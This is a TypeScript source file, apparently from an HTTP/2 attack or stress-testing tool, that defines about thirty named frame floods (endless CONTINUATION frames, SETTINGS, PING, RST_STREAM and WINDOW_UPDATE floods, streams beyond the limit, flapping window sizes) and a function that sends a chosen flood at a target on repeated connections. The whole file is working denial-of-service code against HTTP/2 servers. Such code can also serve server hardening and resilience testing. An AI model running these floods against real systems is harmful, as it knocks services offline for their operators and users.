// Floods of frames that cost the sender nothing: each of a kind, on one connection after another.
import type { AttackReport, AttackTarget } from "./attacker.ts";
import {
  ACK,
  END_HEADERS,
  END_STREAM,
  frame,
  get,
  headers,
  number,
  request,
  reset,
  settings,
  TYPE,
  windowUpdate,
} from "./raw-frames.ts";
import { again, flood, type RawH2, type RawOptions } from "./raw-h2.ts";

interface Flood {
  /** What goes before. */
  readonly first?: Buffer;
  readonly options?: RawOptions;
  readonly make: (i: number) => Buffer;
}

const post = headers(1, request("POST", "/never"), false);
const begun = frame(TYPE.HEADERS, 0, 1, Buffer.from([0x82]));
const fixed =
  (bytes: Buffer): (() => Buffer) =>
  () =>
    bytes;

const FLOODS: Readonly<Record<string, Flood>> = {
  "CONTINUATION without end": { first: begun, make: fixed(frame(TYPE.CONTINUATION, 0, 1, Buffer.alloc(16_000, 0x82))) },
  "tiny CONTINUATION": { first: begun, make: fixed(frame(TYPE.CONTINUATION, 0, 1, Buffer.from([0x82]))) },
  "empty CONTINUATION": { first: begun, make: fixed(frame(TYPE.CONTINUATION, 0, 1)) },
  "empty HEADERS": { make: (i) => frame(TYPE.HEADERS, END_HEADERS | END_STREAM, i * 2 + 1) },
  SETTINGS: { make: fixed(settings()) },
  "SETTINGS that nobody reads": { options: { isDeaf: true }, make: fixed(settings()) },
  "long SETTINGS": { make: fixed(settings(...Array.from({ length: 2000 }, (_, i) => [0x1000 + i, i] as const))) },
  "acknowledged SETTINGS": { make: fixed(frame(TYPE.SETTINGS, ACK, 0)) },
  "flapping SETTINGS_HEADER_TABLE_SIZE": { make: (i) => settings([1, i % 2 === 0 ? 4096 : 0]) },
  PING: { make: fixed(frame(TYPE.PING, 0, 0, Buffer.alloc(8))) },
  "PING that nobody reads": { options: { isDeaf: true }, make: fixed(frame(TYPE.PING, 0, 0, Buffer.alloc(8))) },
  "acknowledged PING": { make: fixed(frame(TYPE.PING, ACK, 0, Buffer.alloc(8))) },
  PRIORITY: { make: fixed(frame(TYPE.PRIORITY, 0, 1, Buffer.alloc(5))) },
  PRIORITY_UPDATE: { make: fixed(frame(TYPE.PRIORITY_UPDATE, 0, 0, Buffer.from("\0\0\0\u0001u=1", "latin1"))) },
  "empty DATA": { first: post, make: fixed(frame(TYPE.DATA, 0, 1)) },
  "DATA of padding alone": { first: post, make: fixed(frame(TYPE.DATA, 8, 1, Buffer.from([3, 0, 0, 0]))) },
  "WINDOW_UPDATE of the connection": { make: fixed(windowUpdate(0, 1)) },
  "WINDOW_UPDATE of a stream": { first: get(1, "/never"), make: fixed(windowUpdate(1, 1)) },
  "WINDOW_UPDATE of a closed stream": { first: Buffer.concat([get(1), reset(1)]), make: fixed(windowUpdate(1, 1)) },
  "RST_STREAM of an idle stream": { make: fixed(reset(1)) },
  "RST_STREAM of a closed stream": { first: Buffer.concat([get(1), reset(1)]), make: fixed(reset(1)) },
  "DATA of a closed stream": {
    first: Buffer.concat([get(1), reset(1)]),
    make: fixed(frame(TYPE.DATA, 0, 1, Buffer.from("x"))),
  },
  "frames of an unknown type": { make: fixed(frame(0x77, 0xff, 0, Buffer.from("what"))) },
  "empty frames of an unknown type": { make: fixed(frame(0x77, 0, 7)) },
  GOAWAY: { first: get(1, "/never"), make: fixed(frame(TYPE.GOAWAY, 0, 0, Buffer.alloc(8))) },
  "streams beyond the limit": {
    first: Buffer.concat(Array.from({ length: 100 }, (_, i) => get(i * 2 + 1, "/never"))),
    make: (i) => get(201 + i * 2, "/never"),
  },
  "flapping SETTINGS_INITIAL_WINDOW_SIZE": {
    first: Buffer.concat(Array.from({ length: 100 }, (_, i) => get(i * 2 + 1, "/never"))),
    make: (i) => settings([4, i % 2 === 0 ? 0x7fffffff : 0]),
  },
  "a reserved PUSH_PROMISE": { make: fixed(number(TYPE.PUSH_PROMISE, 1, 2)) },
};

export const floods: readonly string[] = Object.keys(FLOODS);

/** The flood that `args.kind` names. */
export function frames(target: AttackTarget): Promise<AttackReport> {
  const kind = FLOODS[String(target.args["kind"])];
  if (kind === undefined) throw new Error(`no such flood: ${target.args["kind"]}`);
  return again(target, kind.options ?? {}, async (peer: RawH2, _tally, isTimeUp) => {
    if (kind.first !== undefined) peer.raw(kind.first);
    await flood(peer, isTimeUp, kind.make, 100);
  });
}
